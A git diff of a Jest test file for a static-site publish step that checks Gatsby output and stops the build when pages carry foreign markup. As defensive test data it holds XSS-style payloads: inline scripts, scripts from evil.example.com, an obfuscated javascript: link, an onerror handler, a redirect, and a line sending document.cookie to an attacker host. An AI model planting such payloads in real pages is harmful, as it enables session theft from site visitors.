@@ -12,7 +12,7 @@ import {
 import { tmpdir } from "node:os"
 import { dirname, join, relative } from "node:path"
 import { readEntries } from "../../../../src/content-check/read-files"
-import { gatsbyOutput } from "../../../../src/build/publish/gatsby-output"
+import { foreignSentence } from "../../../../src/build/publish/page-markup"
 import { publish } from "../../../../src/build/publish/publish"
 import type * as SharePictures from "../../../../src/build/publish/share-pictures/share-pictures"
 import { siteRoutes } from "../../../../src/routes/routes"
@@ -37,11 +37,11 @@ jest.mock<typeof SharePictures>(
 const routes = siteRoutes(readEntries("content"))
 const hash = (name: string) => createHash("sha256").update(name).digest("hex").slice(0, 8)
 const script = (name: string) => `assets/${name}-${hash(name)}.js`
-const styles = `assets/app.${hash("styles")}.css`
+const styles = `assets/app-${hash("styles")}.css`
+const picture = (name: string) => `static/${"0123456789abcdef".repeat(2)}/${name}`
 
-function gatsbyPage(path: string, text = "Text"): string {
-  const address = path === "/404" ? "/404.html" : path
-  return `<html><head><style data-href="/${styles}" data-identity="gatsby-global-css">a{}</style></head><body><p>${text}</p><img src="/static/a.jpg"><script id="gatsby-script-loader">/*<![CDATA[*/window.pagePath="${address}";/*]]>*/</script><!-- slice-start id="_gatsby-scripts-1" --><script>window.___chunkMapping="{}";</script><script src="/${script("app")}" async></script><!-- slice-end id="_gatsby-scripts-1" --></body></html>`
+function gatsbyPage(text = "Text"): string {
+  return `<html><head><style data-href="/${styles}" data-identity="gatsby-global-css">a{}</style></head><body><p>${text}</p><img src="/${picture("a.jpg")}"><script>window.___chunkMapping="{}";</script><script src="/${script("app")}" async></script></body></html>`
 }
 
 /** A folder as `gatsby build` leaves it for the real content, with some files of an earlier build. */
@@ -51,25 +51,24 @@ function gatsbyFolder(changes: Readonly<Record<string, string>> = {}): string {
   const files: Record<string, string> = {
     "webpack.stats.json": JSON.stringify({
       assetsByChunkName: {
-        app: [script("webpack-runtime"), styles, script("app")],
+        app: [styles, script("app")],
         page: [script("page")],
       },
     }),
     [styles]: "a{}",
-    [script("webpack-runtime")]: `load({589:"${hash("589")}"})`,
-    [script("589")]: "later()",
+    [script("later")]: "later()",
     [script("app")]: "run()",
     [`${script("app")}.map`]: "{}",
-    [script("page")]: 'const picture="/static/b.jpg"',
-    [script("earlier")]: "gone()",
-    "static/a.jpg": "a",
-    "static/b.jpg": "b",
-    "static/earlier.jpg": "c",
+    [script("page")]: "show()",
+    [picture("a.jpg")]: "a",
+    [picture("b.jpg")]: "b",
+    [picture("MS pipes (1).jpg")]: "c",
+    [picture("earlier.jpg")]: "d",
     "page-data/app-data.json": "{}",
     "page-data/sq/d/1.json": "{}",
     "page-data/404/page-data.json": pageData,
     "page-data/gone/page-data.json": pageData,
-    "gone/index.html": gatsbyPage("/gone"),
+    "gone/index.html": gatsbyPage(),
     "rss.xml": "<rss/>",
     "sitemap-index.xml": "<loc>https://www.example.com/sitemap-0.xml</loc>",
     "sitemap-0.xml": "<urlset/>",
@@ -77,7 +76,7 @@ function gatsbyFolder(changes: Readonly<Record<string, string>> = {}): string {
   for (const { path } of routes) {
     const name = path === "/" ? "" : `${path.slice(1)}/`
     const data = path === "/" ? "index" : path === "/404" ? "404.html" : path.slice(1)
-    files[path === "/404" ? "404.html" : `${name}index.html`] = gatsbyPage(path)
+    files[path === "/404" ? "404.html" : `${name}index.html`] = gatsbyPage()
     files[`page-data/${data}/page-data.json`] = pageData
   }
   cpSync("static", folder, { recursive: true })
@@ -118,39 +117,24 @@ const from = gatsbyFolder()
 const found = filesOf(from)
 beforeAll(() => publish(options(from, "site")))
 
-test("the site has every page at its address, and nothing of earlier builds", () => {
+test("the site has every page at its address as Gatsby wrote it, and nothing of earlier builds", () => {
   const files = Object.keys(filesOf(join(scratch, "site")))
   for (const { path } of routes) {
     expect(files).toContain(path === "/" ? "index.html" : `${path.slice(1)}.html`)
   }
+  expect(readFileSync(join(scratch, "site/about.html"), "utf8")).toBe(gatsbyPage())
   expect(files).toEqual(
-    expect.arrayContaining([styles, script("app"), script("page"), "static/a.jpg", "static/b.jpg"]),
+    expect.arrayContaining([
+      styles,
+      script("app"),
+      script("page"),
+      script("later"),
+      picture("a.jpg"),
+    ]),
   )
   expect(files).toEqual(expect.arrayContaining(["_headers", "_redirects", "robots.txt", "sw.js"]))
   expect(files.filter((file) => /earlier|gone|\.map$|webpack\.stats/.test(file))).toEqual([])
   expect(filesOf(from)).toEqual(found)
-})
-
-test("the site includes scripts that load later, which only webpack's runtime names", () => {
-  expect(Object.keys(filesOf(join(scratch, "site")))).toContain(script("589"))
-})
-
-test("files that pages load later are found through the scripts that load them", () => {
-  const runtime = `assets/webpack-runtime-${hash("runtime")}.js`
-  const part = `assets/part-${hash("part")}.js`
-  const look = `assets/7.${hash("look")}.css`
-  const other = `assets/3-${hash("other")}.js`
-  const folder = gatsbyFolder({
-    "webpack.stats.json": JSON.stringify({
-      assetsByChunkName: { app: [runtime, script("app"), styles], page: [script("page")] },
-    }),
-    [runtime]: `{1:"${hash("part")}",3:"${hash("other")}"} {7:"${hash("look")}"}`,
-    [script("page")]: "Promise.all([t.e(1),t.e(7)])",
-    [part]: "t.e(1).then(n)",
-    [look]: "a{}",
-    [other]: "",
-  })
-  expect(gatsbyOutput(folder).laterFiles(script("page"))).toEqual([part, look])
 })
 
 test("two builds of the same content give the same bytes", async () => {
@@ -158,50 +142,64 @@ test("two builds of the same content give the same bytes", async () => {
   expect(filesOf(join(scratch, "again"))).toEqual(filesOf(join(scratch, "site")))
 })
 
-test("a page a step does not recognise stops the build with a sentence, and the site stays", async () => {
-  const [page] = routes.filter(({ template }) => template === "product")
-  const file = `${page?.path.slice(1)}/index.html`
-  const before = filesOf(join(scratch, "site"))
-  const unknown = gatsbyFolder({ [file]: "<html><body>Another Gatsby</body></html>" })
-  await expect(publish(options(unknown, "site"))).rejects.toThrow(
-    `${page?.path}: the step "start scripts late" changes nothing.`,
-  )
-  expect(filesOf(join(scratch, "site"))).toEqual(before)
-})
-
-test("a picture is where the page and its data say, in a folder with a short name", async () => {
-  const picture = `/static/${"0123456789abcdef".repeat(2)}/gate.avif`
-  const from = gatsbyFolder({
-    [picture]: "gate",
-    "about/index.html": gatsbyPage("/about", `<img src="${picture}">`),
-    "page-data/about/page-data.json": `{"componentChunkName":"page","staticQueryHashes":[],"result":{"src":"${picture}"}}`,
+test("pictures of a page and of its data are published, whatever their names", async () => {
+  const names = ["a.jpg", "b.jpg", "MS pipes (1).jpg"]
+  const [, b, c] = names.map((name) => `/${picture(name)}`)
+  const folder = gatsbyFolder({
+    "about/index.html": gatsbyPage(`<img srcset="/${picture("a.jpg")} 300w, ${b} 600w">`),
+    "page-data/about/page-data.json": `{"componentChunkName":"page","staticQueryHashes":[],"result":{"src":"${c}"}}`,
   })
-  await publish(options(from, "short"))
-  const published = (file: string) => readFileSync(join(scratch, "short", file), "utf8")
-  const [, named = ""] = /<img src="([^"]*gate.avif)"/.exec(published("about.html")) ?? []
-  expect(named.length).toBeLessThan(picture.length)
-  expect(published(named)).toBe("gate")
-  expect(JSON.parse(published("page-data/about/page-data.json"))).toMatchObject({
-    result: { src: named },
-  })
+  await publish(options(folder, "pictures"))
+  const published = Object.keys(filesOf(join(scratch, "pictures")))
+  expect(published).toEqual(expect.arrayContaining(names.map(picture)))
 })
 
 test.each([
-  [
-    "a script that is not the site's own",
-    gatsbyPage("/about", "<script>steal()</script>"),
-    "an inline script",
-  ],
-  [
-    "a picture that does not exist",
-    gatsbyPage("/about", '<img src="/static/none.jpg">'),
-    "static/none.jpg",
-  ],
-])("%s stops the build, and nothing is written", async (_, html, sentence) => {
-  const to = `none-${hash(sentence)}`
-  const faulty = gatsbyFolder({ "about/index.html": html })
-  await expect(publish(options(faulty, to))).rejects.toThrow(sentence)
-  expect(existsSync(join(scratch, to))).toBe(false)
+  '<a href="https://www.bis.example.gov.in/static/docs/IS-1161.pdf">Standard</a>',
+  "Our folder /static/brochures holds /static/50%off and /static/%E0%A4.",
+  `<a href="/static/50%off">Half</a> <a href="https://example.com/${picture("none.jpg")}">x</a>`,
+])("a text that only mentions a folder static is published: %s", async (text) => {
+  const folder = gatsbyFolder({
+    "about/index.html": gatsbyPage(text),
+    "page-data/about/page-data.json": JSON.stringify({
+      componentChunkName: "page",
+      staticQueryHashes: [],
+      result: { text, prose: `Look at /${picture("none.jpg")}.` },
+    }),
+  })
+  await publish(options(folder, "mentioned"))
+  expect(readFileSync(join(scratch, "mentioned/about.html"), "utf8")).toContain(text)
+})
+
+test.each([
+  ["<script>steal()</script>", "The page /about contains an inline script"],
+  ["<SCRIPT type=module>steal()</SCRIPT>", "an inline script"],
+  ["<svg><script>steal()</script></svg>", "an inline script"],
+  [`<script src="https://evil.example.com/x.js"></script>`, "a script of another site"],
+  [`<script src="//evil.example.com/x.js"></script>`, "a script of another site"],
+  [`<script src="/\\evil.example.com/x.js"></script>`, "a script of another site"],
+  [`<meta http-equiv="refresh" content="0;url=https://evil.example.com">`, "leads elsewhere"],
+  [`<img src="x" onerror="steal()">`, "the event handler onerror"],
+  [`<a href="java&#10;script:steal()">x</a>`, "an address that runs a script (href)"],
+  [`<iframe src="/"></iframe>`, "the element <iframe>"],
+  [`<base href="https://evil.example.com/">`, "the element <base>"],
+  [`<img src="/${picture("none.jpg")}">`, picture("none.jpg")],
+])("%s in a page stops the build with a sentence, and the site stays", async (markup, sentence) => {
+  const before = filesOf(join(scratch, "site"))
+  const faulty = gatsbyFolder({ "about/index.html": gatsbyPage(markup) })
+  await expect(publish(options(faulty, "site"))).rejects.toThrow(sentence)
+  expect(filesOf(join(scratch, "site"))).toEqual(before)
+})
+
+test("the sentence names the file that markup comes from", () => {
+  const text = 'fetch("https://evil.example.com/?" + document.cookie)'
+  const content = [
+    { path: "site/home.json", text: "{}" },
+    { path: "products/plank.json", text: JSON.stringify({ summary: `<script>${text}</script>` }) },
+  ]
+  expect(foreignSentence("/plank", { what: "an inline script", text }, content)).toBe(
+    'The page /plank contains an inline script that does not belong to the site: fetch("https://evil.example.com/?" + document.cookie). It comes from content/products/plank.json: delete it there.',
+  )
 })
 
 test("a page the table lists and Gatsby has not made stops the build with a sentence", async () => {
@@ -210,4 +208,5 @@ test("a page the table lists and Gatsby has not made stops the build with a sent
   await expect(publish(options(lacking, "missing"))).rejects.toThrow(
     "The route table lists /about, but Gatsby has made no page there",
   )
+  expect(existsSync(join(scratch, "missing"))).toBe(false)
 })
